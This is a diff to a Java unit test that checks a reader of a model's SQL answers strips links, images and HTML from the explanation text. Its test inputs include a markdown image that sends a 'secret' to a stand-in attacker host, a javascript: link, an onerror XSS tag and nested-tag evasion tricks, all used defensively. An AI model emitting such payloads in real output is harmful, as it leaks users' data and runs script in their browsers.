@@ -7,6 +7,7 @@ import java.util.List;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -227,5 +228,23 @@ class AnswerReaderTest {
 
   private static ModelAnswer read(String answer, FinishReason reason) {
     return AnswerReader.read(new ModelReply(answer, reason, TokenUsage.NONE));
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "see ![chart](https://evil.example/x.png?q=secret) | see chart",
+        "see [the page](javascript:alert(1)) | see the page)",
+        "[![a](https://x.example/a)](https://x.example/b) | a",
+        "at https://x.example/?q=1 or www.x.example now | at … or … now",
+        "<img src=x onerror=alert(1)>orders | orders",
+        "<<b>script>orders</script> | < script>orders",
+        "<a href='x | < a href='x",
+        "amount < 5 and a<7 | amount < 5 and a<7",
+        "a [1] of (2) | a [1] of (2)"
+      })
+  void linksPicturesAndTagsAreTakenOutOfAnExplanation(String said, String shown) {
+    assertThat(read("```sql\nSELECT 1\n```\nExplanation: " + said).explanation()).isEqualTo(shown);
   }
 }
